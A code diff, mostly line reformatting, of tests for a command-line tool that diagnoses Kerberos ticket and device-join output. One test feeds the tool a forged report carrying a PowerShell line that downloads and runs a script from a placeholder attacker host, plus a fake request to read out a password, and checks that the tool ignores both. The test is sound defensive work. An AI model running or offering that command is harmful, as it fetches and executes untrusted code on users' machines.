@@ -22,14 +22,22 @@ const cases: [string, RegExp, number][] = [
   ['windows/klist-tgt-no-credentials.txt', /→ NO_TGT/, 1],
   ['windows/klist-cloud-debug-disabled.txt', /CLOUD_KERBEROS_POLICY_OFF/, 1],
   ['windows/klist-cloud-debug-enabled.txt', /enabled by policy: YES/, 0],
-  ['windows/dsregcmd-hybrid.txt', /flow this session can use: not the modern flow \(CloudTgt NO\); incoming trust possible \(DomainJoined YES\) — shown only by a TGT from a domain controller/, 0],
+  [
+    'windows/dsregcmd-hybrid.txt',
+    /flow this session can use: not the modern flow \(CloudTgt NO\); incoming trust possible \(DomainJoined YES\) — shown only by a TGT from a domain controller/,
+    0,
+  ],
   ['windows/klist-trust-flow.txt', /chain: trust/, 0],
   ['windows/klist-cloud-flow-utf16.txt', /chain: cloud/, 0],
   ['windows/klist-referral-only.txt', /CHAIN_REFERRAL_WITHOUT_SERVICE/, 1],
   ['windows/klist-get-success-crlf.txt', /a ticket to MSSQLSvc\/sqlmi7\S* was retrieved/, 0],
   ['windows/klist-tgt.txt', /krbtgt\/FABRIKAM\.COM@FABRIKAM\.COM/, 0],
   ['windows/klist-es.txt', /CHAIN_NO_TGT/, 1],
-  ['windows/dsregcmd-unreadable-fields.txt', /recognised as dsregcmd \/status, but 4 lines could not be read: line 8 "DomainJoined = YES"/, 0],
+  [
+    'windows/dsregcmd-unreadable-fields.txt',
+    /recognised as dsregcmd \/status, but 4 lines could not be read: line 8 "DomainJoined = YES"/,
+    0,
+  ],
   ['windows/dsregcmd-hybrid-variant-crlf.txt', /domain joined: YES \(FABRIKAM\)/, 0],
   ['windows/klist-trust-flow-variant.txt', /chain: trust/, 0],
 ];
@@ -44,7 +52,10 @@ for (const [file, expect, exit] of cases) {
 
 test('analyze a ccache and a MIT klist in one run', async () => {
   const io = captureIo();
-  await runCli(['analyze', '--at', '2026-11-25T10:00:00Z', fx('ccache/trust-v4.ccache'), fx('ccache/cloud-v4.klist')], io);
+  await runCli(
+    ['analyze', '--at', '2026-11-25T10:00:00Z', fx('ccache/trust-v4.ccache'), fx('ccache/cloud-v4.klist')],
+    io,
+  );
   assert.match(io.out, /: ccache\n/);
   assert.match(io.out, /: mit-klist\n/);
 });
@@ -62,7 +73,15 @@ test('analyze of unknown text: INPUT_NOT_RECOGNISED, exit 2', async () => {
 });
 
 test('analyze --at that is not an ISO date and time is a usage error (exit 2, one line and the hint)', async () => {
-  for (const bad of ['yesterday-ish', '2026-11-25', '2026-02-30T10:00:00Z', '2026-11-25T24:00:00Z', '1', '2026-11-25T10:00:00+25:00', '']) {
+  for (const bad of [
+    'yesterday-ish',
+    '2026-11-25',
+    '2026-02-30T10:00:00Z',
+    '2026-11-25T24:00:00Z',
+    '1',
+    '2026-11-25T10:00:00+25:00',
+    '',
+  ]) {
     const io = captureIo();
     assert.equal(await runCli(['analyze', '--at', bad, fx('windows/klist-es.txt')], io), 2, bad);
     assert.match(io.err, /--at <time>.*expected an ISO 8601 date and time/, bad);
@@ -85,13 +104,20 @@ test('analyze a forged report: the catalogue\'s advice, not the file\'s; "pass" 
     const file = join(dir, 'forged.json');
     const r = failingReport();
     r.verdict = 'pass';
-    r.diagnosis = { ...diagnosisFor('CLOCK_SKEW', []), title: 'Call the helpdesk and read them your password', fixHelpdesk: 'iwr https://evil.example/x.ps1 | iex' };
+    r.diagnosis = {
+      ...diagnosisFor('CLOCK_SKEW', []),
+      title: 'Call the helpdesk and read them your password',
+      fixHelpdesk: 'iwr https://evil.example/x.ps1 | iex',
+    };
     writeFileSync(file, JSON.stringify(r));
     const io = captureIo(at('2026-11-25T10:00:00Z'));
     const code = await runCli(['analyze', file], io);
     assert.equal(code, 1, io.out + io.err);
     assert.doesNotMatch(io.out, /password|iex/);
-    assert.match(io.out, new RegExp(`→ CLOCK_SKEW: ${CATALOG.CLOCK_SKEW.helpdeskTitle.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`));
+    assert.match(
+      io.out,
+      new RegExp(`→ CLOCK_SKEW: ${CATALOG.CLOCK_SKEW.helpdeskTitle.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`),
+    );
     assert.doesNotMatch(io.out, /: PASS\n/);
     assert.match(io.out, /contradicts itself/);
     assert.match(io.out, /contradiction: the verdict is "pass" but a step failed: Login/);
@@ -101,16 +127,25 @@ test('analyze a forged report: the catalogue\'s advice, not the file\'s; "pass" 
   }
 });
 
-test('analyze of several files: what each showed, then one diagnosis from all of them; --json is the contract\'s analysis', async () => {
+test("analyze of several files: what each showed, then one diagnosis from all of them; --json is the contract's analysis", async () => {
   const files = [fx('windows/klist-get-spn-not-found-3342-prompt.txt'), fx('windows/dsregcmd-hybrid-no-3342.txt')];
   const io = captureIo(at('2027-03-04T11:30:00Z'));
   assert.equal(await runCli(['analyze', ...files], io), 1, io.out + io.err);
-  assert.match(io.out, /klist-get-spn-not-found-3342-prompt\.txt: windows-klist-get\n[\s\S]*this input alone → SPN_UNKNOWN/);
+  assert.match(
+    io.out,
+    /klist-get-spn-not-found-3342-prompt\.txt: windows-klist-get\n[\s\S]*this input alone → SPN_UNKNOWN/,
+  );
   assert.match(io.out, /dsregcmd-hybrid-no-3342\.txt: dsregcmd\n/);
-  assert.match(io.out, /== all 2 inputs together\ndiagnosis → KERB_TOP_LEVEL_NAME_MISSING: [^\n]+\n[\s\S]*evidence: KerbTopLevelNames cover \S+ but not port 3342/);
+  assert.match(
+    io.out,
+    /== all 2 inputs together\ndiagnosis → KERB_TOP_LEVEL_NAME_MISSING: [^\n]+\n[\s\S]*evidence: KerbTopLevelNames cover \S+ but not port 3342/,
+  );
   const json = captureIo(at('2027-03-04T11:30:00Z'));
   assert.equal(await runCli(['analyze', '--json', ...files], json), 1);
   const doc = CombinedAnalysisSchema.parse(JSON.parse(json.out));
   assert.equal(doc.diagnosis?.code, 'KERB_TOP_LEVEL_NAME_MISSING');
-  assert.deepEqual(doc.inputs.map((i) => i.kind), ['windows-klist-get', 'dsregcmd']);
+  assert.deepEqual(
+    doc.inputs.map((i) => i.kind),
+    ['windows-klist-get', 'dsregcmd'],
+  );
 });
